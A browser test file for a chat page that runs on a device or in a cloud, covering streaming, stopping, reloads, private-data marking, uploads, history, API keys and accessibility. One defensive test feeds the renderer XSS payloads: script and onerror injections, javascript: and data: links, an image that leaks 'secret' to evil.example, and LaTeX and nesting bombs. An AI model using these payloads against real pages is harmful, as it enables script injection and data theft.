/** The page in a real Chromium, on the real server with a scripted device and a recording cloud. */
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { chromiumFlags, findChromium, noChromium } from '../support/find-chromium.ts';
import { answer, event, lastText, start, type Script } from '../support/scripted-backend.ts';
import { startWebServer, type WebServer } from '../support/web-server.ts';

const executablePath = findChromium();
const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
/** Waits for a busy machine; not a measure. */
const patient = { timeout: 60_000 };
const phone = { width: 390, height: 844 };
const desktop = { width: 1280, height: 800 };

if (executablePath === undefined) it.skip(`the page in a browser: ${noChromium}`, () => {});

describe.runIf(executablePath !== undefined)('the chat page', () => {
  let browser: Browser;
  let web: WebServer;
  let context: BrowserContext | undefined;
  /** Addresses that the browser asked for. */
  let asked: string[] = [];
  beforeAll(async () => {
    browser = await chromium.launch({
      ...(executablePath === undefined ? {} : { executablePath }),
      args: [...chromiumFlags, '--use-fake-device-for-media-stream', '--use-fake-ui-for-media-stream'],
    });
    web = await startWebServer({ policy: {}, modalities: { device: ['text', 'image', 'audio'] } });
  });
  afterEach(async () => {
    await context?.close();
    context = undefined;
  });
  afterAll(async () => {
    await browser.close();
    await web.close();
  });

  async function open(options: Parameters<Browser['newContext']>[0] = {}, url = web.server.url): Promise<Page> {
    context = await browser.newContext({ viewport: phone, locale: 'en-US', ...options });
    asked = [];
    context.on('request', (request) => asked.push(request.url()));
    const page = await context.newPage();
    page.setDefaultTimeout(60_000);
    await page.goto(url);
    await page
      .getByRole('textbox', { name: 'Ask something' })
      .or(page.getByRole('textbox', { name: '问点什么' }))
      .waitFor();
    return page;
  }
  async function ask(page: Page, text: string): Promise<void> {
    await page.locator('.composer textarea').fill(text);
    await page.keyboard.press('Enter');
  }
  const finished = (page: Page) => page.locator('.answer[aria-busy=false]').last().waitFor();
  const play = (script: Script): void => {
    web.setup.device.script = script;
  };
  const toThirdParties = () =>
    asked.filter((url) => !url.startsWith(web.server.url) && !url.startsWith('data:') && !url.startsWith('blob:'));

  it('streams an answer, folds the thinking, and says where it ran; a click opens the receipt', async () => {
    play(() => answer('A **bold** word and `code`.', { reasoning: 'Thinking about it.' }));
    const page = await open();
    await ask(page, 'Say something bold.');
    await finished(page);
    expect(await page.locator('.answer strong').textContent()).toBe('bold');
    expect(await page.locator('.thinking').getAttribute('open')).toBeNull();
    expect(await page.locator('.thinking p').isVisible()).toBe(false);
    const route = page.locator('.answer .route');
    await expect.poll(() => route.textContent(), patient).toMatch(/Device.*small-1.*first token.*tokens\/s/);
    await route.click();
    await page.getByRole('dialog', { name: 'Receipt' }).getByText('Bytes that left for the cloud').waitFor();
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(toThirdParties()).toEqual([]);
  });

  it('marks what is private while it is typed, before anything is sent, and says where it would run', async () => {
    const page = await open();
    await page.locator('.composer textarea').fill('Call me at 13812345678 about my diabetes');
    await expect.poll(() => page.locator('.backdrop mark').allTextContents(), patient).toEqual(['13812345678']);
    await expect
      .poll(() => page.locator('.verdict').textContent(), patient)
      .toMatch(/phone number.*stays on the device/s);
    await page.locator('.composer textarea').fill('What is the capital of France?');
    await expect.poll(() => page.locator('.verdict').textContent(), patient).toMatch(/Would run/);
    expect(await page.locator('.backdrop mark').count()).toBe(0);
    // The draft went nowhere: the page only ever asked for the state.
    expect(asked.filter((url) => /chat|explain/.test(url))).toEqual([]);
  });

  it('stops, and keeps what came', async () => {
    play(function* () {
      yield start();
      yield event({ type: 'text-delta', text: 'So far so good' });
      yield { step: 'hang' };
    });
    const page = await open();
    await ask(page, 'Go on for ever');
    await page.getByText('So far so good').waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByText('Stopped.').waitFor();
    expect(await page.locator('.answer .markdown').textContent()).toBe('So far so good');
    await expect.poll(() => web.setup.device.active, patient).toBe(0);
  });

  it('shows a stream that breaks as broken, never as finished, and keeps what came', async () => {
    play(function* () {
      yield start();
      yield event({ type: 'text-delta', text: 'Half an ans' });
      yield { step: 'throw', error: new Error('the engine fell over') };
    });
    const page = await open();
    await ask(page, 'Break');
    await page.getByRole('alert').waitFor();
    expect(await page.locator('.answer .markdown').textContent()).toBe('Half an ans');
    expect(await page.getByRole('alert').textContent()).toContain('internal');
    expect(await page.content()).not.toContain('fell over');
  });

  it('keeps the answer so far when the server goes in mid-stream, and goes on when it is back', async () => {
    const gone = await startWebServer({ policy: {} });
    const { port } = gone.server;
    gone.setup.device.script = function* () {
      yield start();
      yield event({ type: 'text-delta', text: 'Before the fall' });
      yield { step: 'hang' };
    };
    const page = await open({}, gone.server.url);
    await ask(page, 'Hello');
    await page.getByText('Before the fall').waitFor();
    await gone.close();
    await page.getByRole('alert').waitFor();
    expect(await page.locator('.answer .markdown').textContent()).toBe('Before the fall');
    await page.getByText('The server does not answer. Trying again').waitFor();
    const back = await startWebServer({ policy: {} }, { port });
    try {
      await page.getByText('The server does not answer. Trying again').waitFor({ state: 'detached' });
      await page.getByRole('button', { name: 'Answer again' }).click();
      await page.getByText('You said: Hello').waitFor();
      expect(await page.locator('.versions').textContent()).toContain('2 of 2');
      await page.getByRole('button', { name: 'Earlier version' }).click();
      await page.getByText('Before the fall').waitFor();
    } finally {
      await back.close();
    }
  });

  it('keeps the answer so far over a reload in mid-answer', async () => {
    play(function* () {
      yield start();
      for (const word of ['One ', 'two ', 'three ']) {
        yield event({ type: 'text-delta', text: word });
        yield { step: 'wait', ms: 500 };
      }
      yield { step: 'hang' };
    });
    const page = await open();
    await ask(page, 'Count');
    await page.getByText('One two three').waitFor();
    await page.reload();
    await page.getByText('One two').waitFor();
    expect(await page.getByRole('alert').textContent()).toContain('reloaded');
    await expect.poll(() => web.setup.device.active, patient).toBe(0);
  });

  it('edits a question into a branch; both stay', async () => {
    play((request) => answer(`You said: ${lastText(request)}`));
    const page = await open();
    await ask(page, 'first');
    await page.getByText('You said: first').waitFor();
    await finished(page);
    await page.getByRole('button', { name: 'Edit' }).click();
    await page.getByRole('textbox', { name: 'Edit' }).fill('second');
    await page.getByRole('button', { name: 'Send again' }).click();
    await page.getByText('You said: second').waitFor();
    await finished(page);
    await page.getByRole('button', { name: 'Earlier version' }).click();
    await page.getByText('You said: first').waitFor();
  });

  it('renders hostile answers inert: no script, no request, no dangerous link', async () => {
    const hostile = [
      '<img src=x onerror="window.hit=1"><script>window.hit=1</script><iframe src="https://evil.example/f"></iframe>',
      '[a](javascript:window.hit=1) [b](data:text/html,<script>window.hit=1</script>) [c](JaVaScRiPt:window.hit=1) [d](vbscript:x)',
      '![leak](https://evil.example/p.png?d=secret) ![s](data:image/svg+xml;base64,PHN2Zy8+) ![j](javascript:window.hit=1)',
      '$\\href{javascript:window.hit=1}{x} \\includegraphics{https://evil.example/m.png}$',
      '$\\def\\a{\\a\\a}\\a$',
      '> '.repeat(600) + 'deep',
      '[ref]: javascript:window.hit=1\n\n[ref]',
      '<svg onload="window.hit=1"><a xlink:href="javascript:window.hit=1">x</a></svg>',
      `${'['.repeat(3000)}${'*a '.repeat(2000)}`,
      '```html\n<script>window.hit=1</script>\n```',
    ].join('\n\n');
    play(function* () {
      yield start();
      yield event({ type: 'text-delta', text: hostile });
      yield* [...answer('')].slice(1);
    });
    const page = await open();
    await ask(page, 'Attack');
    await finished(page);
    await page.locator('.code-block').waitFor();
    await sleep(500);
    expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
    const links = await page
      .locator('.answer a')
      .evaluateAll((all) => all.map((each) => (each as HTMLAnchorElement).href));
    expect(links.filter((href) => !/^https?:|^mailto:/.test(href))).toEqual([]);
    expect(await page.locator('.answer :is(img, iframe, script, object, embed)').count()).toBe(0);
    expect(await page.locator('.picture-link').first().getAttribute('rel')).toContain('noreferrer');
    expect(toThirdParties()).toEqual([]);
  });

  it('sends a picture that it has made small, and no metadata', async () => {
    play((request) => answer(`You said: ${lastText(request)}`));
    const page = await open();
    const bytes = await page.evaluate(async () => {
      const canvas = new OffscreenCanvas(4000, 3000);
      canvas.getContext('2d')?.fillRect(0, 0, 100, 100);
      return [...new Uint8Array(await (await canvas.convertToBlob({ type: 'image/png' })).arrayBuffer())];
    });
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'photo.png', mimeType: 'image/png', buffer: Buffer.from(bytes) });
    await page.locator('.attachment img').waitFor();
    const size = await page
      .locator('.attachment img')
      .evaluate((img: HTMLImageElement) => [img.naturalWidth, img.naturalHeight]);
    expect(size).toEqual([1568, 1176]);
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'x.png', mimeType: 'image/png', buffer: Buffer.from('no picture') });
    await page.getByText('not a picture').waitFor();
    await ask(page, 'What is this?');
    await finished(page);
    const request = web.setup.device.requests.at(-1);
    const part = request?.input.kind === 'chat' ? request.input.messages.at(-1)?.content[0] : undefined;
    expect(part).toMatchObject({ type: 'image', source: { kind: 'bytes', mediaType: 'image/jpeg' } });
  });

  it('records the microphone and sends WAV; a refusal is said in words', async () => {
    play((request) => answer(`You said: ${lastText(request)}`));
    const page = await open({ permissions: ['microphone'] });
    await page.getByRole('button', { name: 'Record' }).click();
    await expect.poll(() => page.locator('.record-bar').textContent(), patient).toMatch(/Recording, [1-9]/);
    await page.getByRole('button', { name: 'Stop recording' }).click();
    await page.locator('.attachment.sound').waitFor();
    await page.getByRole('button', { name: 'Send' }).click();
    await finished(page);
    const request = web.setup.device.requests.at(-1);
    const part = request?.input.kind === 'chat' ? request.input.messages.at(-1)?.content[0] : undefined;
    expect(part).toMatchObject({ type: 'audio', format: 'wav' });
    if (part?.type === 'audio') expect(Buffer.from(part.bytes).toString('latin1', 0, 4)).toBe('RIFF');
    await page.evaluate(() => {
      navigator.mediaDevices.getUserMedia = () => Promise.reject(new DOMException('no', 'NotAllowedError'));
    });
    await page.getByRole('button', { name: 'Record' }).click();
    await page.getByText('The microphone may not be used').waitFor();
    await page.getByRole('button', { name: 'Take a photo' }).click();
    await page.getByText('The camera may not be used').waitFor();
  });

  it('searches and deletes the history, and keeps none of it afterwards', async () => {
    play((request) => answer(`You said: ${lastText(request)}`));
    const page = await open({ viewport: desktop });
    for (const text of ['about apples', 'about pears']) {
      await ask(page, text);
      await finished(page);
      await page.locator('.history-title', { hasText: text }).waitFor();
      await page.getByRole('button', { name: 'New chat' }).first().click();
    }
    await page.getByRole('searchbox').fill('apples');
    await expect.poll(() => page.locator('.history-title').allTextContents(), patient).toEqual(['about apples']);
    await page.getByRole('searchbox').fill('');
    page.on('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Delete all' }).click();
    await page.getByText('Conversations are kept on this device only.').waitFor();
    await page.reload();
    await page.getByText('Conversations are kept on this device only.').waitFor();
    expect(await page.locator('.history-title').count()).toBe(0);
  });

  it('asks for the key of a server that has one, and never writes it to storage that lasts', async () => {
    const locked = await startWebServer({ policy: {} }, { apiKeys: ['key-of-the-test'], requireKey: 'always' });
    try {
      const page = await open({}, locked.server.url);
      await page.getByLabel('API key').fill('key-of-the-test');
      await page.getByRole('button', { name: 'Use the key' }).click();
      await ask(page, 'Hello');
      await page.getByText('You said: Hello').waitFor();
      await finished(page);
      const stored = await page.evaluate(() => JSON.stringify([localStorage, sessionStorage, document.cookie]));
      expect(stored).not.toContain('key-of-the-test');
      await page.reload();
      await page.getByLabel('API key').fill('a wrong one');
      await page.getByRole('button', { name: 'Use the key' }).click();
      await page.getByLabel('API key').waitFor();
    } finally {
      await context?.close();
      await locked.close();
    }
  });

  it.each([
    ['phone', 'light', phone],
    ['phone', 'dark', phone],
    ['desktop', 'light', desktop],
    ['desktop', 'dark', desktop],
  ] as const)('has no accessibility faults: %s, %s', async (_, colorScheme, viewport) => {
    play(() =>
      answer('## Title\n\nText with `code`, [a link](https://example.org/).\n\n| a | b |\n|---|---|\n| 1 | 2 |', {
        reasoning: 'Hm.',
      }),
    );
    const page = await open({ viewport, colorScheme, locale: 'zh-CN' });
    const violations = async (): Promise<string[]> => {
      await page.evaluate(axe);
      return page.evaluate(async () => {
        const { axe: run } = globalThis as unknown as {
          axe: { run(): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
        };
        const result = await run.run();
        return result.violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`);
      });
    };
    expect(await violations()).toEqual([]);
    await page.locator('.composer textarea').fill('我的手机号是13812345678');
    await page.locator('.backdrop mark').waitFor();
    expect(await violations()).toEqual([]);
    await page.keyboard.press('Enter');
    await finished(page);
    await page.locator('button.route').waitFor();
    expect(await violations()).toEqual([]);
    await page.locator('button.route').click();
    await page.locator('.receipt dl').waitFor();
    expect(await violations()).toEqual([]);
  });

  it('cuts a paste of a megabyte, and says so', async () => {
    const page = await open();
    await page.evaluate(() => {
      const clipboardData = new DataTransfer();
      clipboardData.setData('text/plain', 'word '.repeat(200_000));
      const paste = new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true });
      document.querySelector('.composer textarea')?.dispatchEvent(paste);
    });
    await page.getByText('it was cut at 200,000 characters').waitFor();
    expect((await page.locator('.composer textarea').inputValue()).length).toBe(200_000);
  });
});
